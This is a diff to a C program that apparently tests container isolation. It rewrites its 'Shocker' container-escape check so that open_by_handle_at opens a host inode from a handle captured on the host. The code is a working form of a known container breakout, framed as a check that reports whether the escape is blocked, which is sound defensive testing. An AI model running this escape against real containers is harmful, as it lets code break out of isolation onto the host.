@@ -831,8 +831,9 @@ static void attack_chroot_escape(const char *arg)
     report("BLOCKED", "root=container");
 }
 
-/* "Shocker" (2014): open_by_handle_at with a forged handle for the root inode (2) of
- * the filesystem holding "/". ARG: DEV:INO of the host's "/". */
+/* "Shocker" (2014): open_by_handle_at opens any inode of a file system by its handle,
+ * also one outside the container's root, given a mount fd on the same file system.
+ * ARG: TYPE:HEX:DEV:INO, a handle taken on the host and the DEV:INO it must open. */
 static void attack_shocker(const char *arg)
 {
     unsigned long dev, ino;
@@ -840,18 +841,16 @@ static void attack_shocker(const char *arg)
         struct file_handle handle;
         unsigned char bytes[128];
     } buf;
-    int mount_id, mount_fd, fd;
+    char hex[260];
+    int type, mount_fd, fd;
+    unsigned int i;
     struct stat st;
-    if (sscanf(arg, "%lu:%lu", &dev, &ino) != 2)
+    if (sscanf(arg, "%d:%259[0-9a-f]:%lu:%lu", &type, hex, &dev, &ino) != 4 || strlen(hex) / 2 > sizeof buf.bytes)
         return report("BLOCKED", "errno=usage");
-    buf.handle.handle_bytes = sizeof buf.bytes;
-    if (name_to_handle_at(AT_FDCWD, "/", &buf.handle, &mount_id, 0) < 0)
-        return blocked_at("name_to_handle_at");
-    if (buf.handle.handle_bytes < 8)
-        return report("BLOCKED", "errno=handle");
-    /* ext4's handle (FILEID_INO32_GEN): inode number, generation. */
-    ((uint32_t *) buf.handle.f_handle)[0] = 2;
-    ((uint32_t *) buf.handle.f_handle)[1] = 0;
+    buf.handle.handle_type = type;
+    buf.handle.handle_bytes = strlen(hex) / 2;
+    for (i = 0; i < buf.handle.handle_bytes; i++)
+        sscanf(hex + 2 * i, "%2hhx", &buf.handle.f_handle[i]);
     mount_fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
     fd = syscall(SYS_open_by_handle_at, mount_fd, &buf.handle, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
     if (fd < 0)
